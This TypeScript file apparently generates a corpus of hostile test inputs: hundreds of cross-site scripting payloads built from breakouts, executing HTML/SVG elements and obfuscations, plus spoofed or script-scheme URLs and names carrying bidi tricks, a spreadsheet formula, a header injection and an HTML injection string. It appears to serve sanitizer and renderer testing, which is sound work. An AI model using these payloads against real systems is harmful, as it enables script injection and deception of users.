// Text that attacks whoever shows it, made from a small grammar: what breaks out × what would run × how it is hidden.

/** Each payload calls this with its number, if it ever runs. */
const code = (at: number) => `ran(${at})`

const coded = (text: string, as: (code: number) => string) =>
  text.replace(/[^]/g, (sign) => as(sign.charCodeAt(0)))
const entities = (text: string) => coded(text, (code) => `&#${code};`)
const hexEntities = (text: string) => coded(text, (code) => `&#x${code.toString(16)}`)
const percent = (text: string) => coded(text, (code) => `%${code.toString(16).padStart(2, '0')}`)

/** How the code is written. */
const disguises: ((js: string) => string)[] = [
  (js) => js,
  (js) => entities(js),
  (js) => hexEntities(js),
  (js) => js.replace('r', '\\u0072'),
  (js) => `eval(atob('${btoa(js)}'))`,
  (js) => `(0,eval)(decodeURIComponent('${percent(js)}'))`,
  (js) => `setTimeout\`${js}\``,
  (js) => `[1].map(()=>${js})`,
]

/** What would run it, once it is an element. `sink` is an address that hears of whoever loads it. */
const carriers: ((js: string, sink: string) => string)[] = [
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img/src=x/onerror='${js}'>`,
  (js, sink) => `<img src="${sink}" onload="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<sVg/OnLoAd="${js}"//`,
  (js) => `<script>${js}</script>`,
  (_, sink) => `<script src="${sink}"></script>`,
  (js) => `<body onload="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}"><summary>more</summary></details>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror="${js}"></audio>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (_, sink) => `<object data="${sink}"></object><embed src="${sink}">`,
  (js) => `<a href="javascript:${js}">more</a>`,
  (js) => `<form action="javascript:${js}"><button formaction="javascript:${js}">more</button></form>`,
  (js) => `<math><mtext><a xlink:href="javascript:${js}">more</a></mtext></math>`,
  (js) => `<marquee onstart="${js}">more</marquee>`,
  (_, sink) => `<style>@import '${sink}';*{background:url(${sink})}</style>`,
  (js, sink) => `<link rel=stylesheet href="${sink}" onerror="${js}">`,
  (_, sink) => `<meta http-equiv=refresh content="0;url=${sink}">`,
  (_, sink) => `<base href="${sink}">`,
  (js) => `<x-x tabindex=1 autofocus onfocus="${js}" style="position:fixed;inset:0">more</x-x>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript>`,
  (js) => `<template><img src=x onerror="${js}"></template><template shadowrootmode=open><img src=x>`,
  (js) => `{{constructor.constructor('${js}')()}}\${${js}}<%= ${js} %>`,
  (js) => `[more](javascript:${js}) ![x](x "onerror=${js}")`,
]

/** What it stands in, and how it would get out of there. */
const breakouts = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title></style>',
  '</script>',
  '-->',
  ']]>',
  '</option></select>',
  '</bdi></p></blockquote>',
  '\u0000',
  '\u202e',
  '&lt;b&gt;',
  '$1$&$$',
]

export interface Payload {
  at: number
  text: string
  /** Whether a parser makes elements of it. */
  markup: boolean
}

/** At least 500 of them, no two alike, each with a number of its own in it. */
export function payloads(sink: string): Payload[] {
  const made: Payload[] = []
  for (const [turn, breakout] of breakouts.entries())
    for (const [which, carry] of carriers.entries()) {
      const at = made.length
      const disguise = disguises[(turn + which) % disguises.length] ?? disguises[0]!
      const text = `${breakout}${carry(disguise(code(at)), `${sink}${at}`)} №${at}`
      made.push({ at, text, markup: which < 28 })
    }
  for (const disguise of disguises)
    for (const carry of carriers.slice(0, 12)) {
      const at = made.length
      const text = `${carry(disguise(code(at)), `${sink}${at}`)} №${at}`
      made.push({ at, text, markup: true })
    }
  return made
}

const schemes = [
  'javascript:',
  'data:text/html,',
  'vbscript:',
  'blob:https://a.example/',
  'file:///etc/',
  'ftp://a/',
]
const ways: ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => `${scheme.slice(0, 2)}\t${scheme.slice(2)}`,
  (scheme) => `${scheme.slice(0, 3)}\n${scheme.slice(3)}`,
  (scheme) => ` \u0001${scheme}`,
  (scheme) => scheme.replace(':', '&colon;'),
  (scheme) => scheme.replace(':', '%3a'),
  (scheme) => `\u200b${scheme}`,
]
const odd = [
  'https://bank.example@evil.example/',
  'https://user:word@evil.example/',
  'https://xn--pple-43d.example/',
  'https://\u0430pple.example/',
  'https://a.example/\u202egnp.exe',
  'https://a.example/" onclick="ran(1)',
  '//evil.example/',
  'https:\\\\evil.example',
  'http:javascript:ran(1)',
  'view-source:https://a.example/',
  'about:blank#<script>ran(1)</script>',
  'chrome://settings',
]

/** Sixty addresses: of another scheme than http, or that look like something they are not. */
export const hostileUrls = (): string[] => [
  ...schemes.flatMap((scheme) => ways.map((way) => `${way(scheme)}ran(1)`)),
  ...odd,
]

const flood = (mark: string, times: number) => `Z${mark.repeat(times)}algo`

/** Forty names that turn the line around, hide, pile up, go on for ever, or are what every object has. */
export const hostileNames = (): string[] => [
  ...['\u202e', '\u202d', '\u202b', '\u2067', '\u2069', '\u200f', '\u061c', '\u2028', '\u2029'].map(
    (sign) => `Ida ${sign}nosirG`,
  ),
  '\u2069\u2069\u202eevil \u2066',
  '\u202e\u202e\u202e',
  ...['\u200b', '\u200d', '\ufeff', '\u00ad', '\u2060', '\u3164'].map((sign) => `I${sign}d${sign}a`),
  '\u200b',
  ' ',
  flood('\u0301', 400),
  flood('\u0489\u0346\u0323', 200),
  flood('\u0e47', 300),
  'W'.repeat(10_000),
  'Ida '.repeat(2_500),
  '\u{1f469}\u200d'.repeat(200),
  '\u05d0\u05d1\u05d2 (Ltd) 123',
  '\u0644\u064a\u0644\u0649 Norrg\u00e5rd!',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '<b>Ida</b>',
  '"><img src=x onerror=ran(1)>',
  '\u0430pple \u0420\u0430ypal',
  '\ud800 alone',
  'a\u0000b\u0007c\u001b[31m',
  '\r\n\r\nBcc: x@x.example',
  '=HYPERLINK("http://x")',
  '{{quote}} {{name}} $& $1',
  '../../app.html#/data?x=1&y=2',
]
